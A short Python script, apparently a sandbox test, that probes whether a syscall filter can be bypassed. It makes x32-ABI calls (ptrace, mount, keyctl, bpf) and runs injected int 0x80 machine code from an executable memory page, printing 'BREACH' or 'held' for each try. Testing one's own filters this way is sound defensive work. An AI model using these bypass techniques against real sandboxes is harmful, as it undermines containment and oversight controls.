"""Call the kernel by another door, whose numbers the filter does not know: x32 and 32-bit calls."""

import ctypes
import mmap
import os
import platform

from attack import LIBC, NUMBERS

X32 = 0x4000_0000


def in_child(name, action):
    child = os.fork()
    if child == 0:
        os._exit(0 if action() else 1)
    _, status = os.waitpid(child, 0)
    got_through = os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    print("BREACH" if got_through else "held", name, status)


def int_80():
    """mov eax, 20 (getpid of 32-bit code); int 0x80; ret"""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return function() == os.getpid()


if platform.machine() == "x86_64":
    for name in ("getpid", "ptrace", "mount", "keyctl", "bpf"):
        in_child(f"x32 {name}", lambda name=name: LIBC.syscall(ctypes.c_long(X32 | NUMBERS[name]), 0, 0, 0, 0, 0) >= 0)
    in_child("32-bit", int_80)
print("done")
